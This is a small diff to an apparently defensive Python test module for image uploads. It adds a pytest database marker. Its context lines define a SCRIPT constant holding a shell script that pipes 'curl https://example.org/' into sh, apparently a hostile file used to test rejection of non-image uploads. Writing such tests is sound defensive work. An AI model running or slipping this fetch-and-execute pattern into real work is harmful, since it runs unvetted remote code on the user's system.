@@ -24,6 +24,8 @@ from tests.reading import elements
 
 from .hostile import camera_jpeg
 
+pytestmark = pytest.mark.one_database
+
 ENDINGS = {"PNG": "png", "JPEG": "jpg", "WEBP": "webp", "AVIF": "avif"}
 SCRIPT = b"#!/bin/sh\ncurl https://example.org/ | sh\n"
 
